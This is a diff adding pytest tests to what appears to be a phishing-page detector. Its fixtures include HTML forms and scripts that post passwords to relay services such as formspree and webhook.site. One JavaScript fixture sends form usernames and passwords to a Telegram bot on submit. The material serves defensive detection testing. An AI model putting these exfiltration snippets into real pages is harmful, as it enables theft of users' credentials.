@@ -616,3 +616,45 @@ def test_lexicon_patterns_are_lower_case_because_text_is(name):
     lex = {k: v for k, v in load_lexicon(name).items() if k not in ("version", "description")}
     upper = [s for s in _strings(lex) if s != s.lower()]
     assert upper == []
+
+
+# --- relays and kit scripts stored on their own --------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        '<form action="https://formspree.io/f/abcd" method="post"><input type="password"></form>',
+        "<script>fetch('https://script.google.com/macros/s/XYZ/exec', {method: 'POST'})</script>",
+        "<script>$.ajax({url: 'https://webhook.site/0000-1111', type: 'POST'})</script>",
+    ],
+)
+def test_relay_services(html):
+    assert f(html, url="")["credential.relay_service"] == 1
+
+
+def test_own_server_is_not_a_relay_service():
+    html = '<form action="/session" method="post"><input type="password"></form>'
+    assert f(html, url="")["credential.relay_service"] == 0
+
+
+JS_FILE = """const TOKEN = "123:abc"; const CHAT = "42";
+function send(user, pass) {
+  const url = `https://api.telegram.org/bot${TOKEN}/sendMessage`;
+  fetch(url, {method: "POST", body: JSON.stringify({chat_id: CHAT, text: user + pass})});
+}
+document.querySelector("form").addEventListener("submit", (e) => { send(a, b); });"""
+
+
+def test_a_kit_script_stored_as_a_page_is_read_as_script():
+    feats = f(JS_FILE, url="")
+    assert feats["credential.telegram_bot"] == 1
+    assert feats["credential.js_exfil"] == 1
+
+
+def test_prose_about_bots_is_not_read_as_script():
+    prose = (
+        "<p>Our guide explains how a function of the Telegram API works: the address "
+        "api.telegram.org/bot followed by a token. Let me show you the window settings.</p>"
+    )
+    assert f(prose, url="")["credential.js_exfil"] == 0
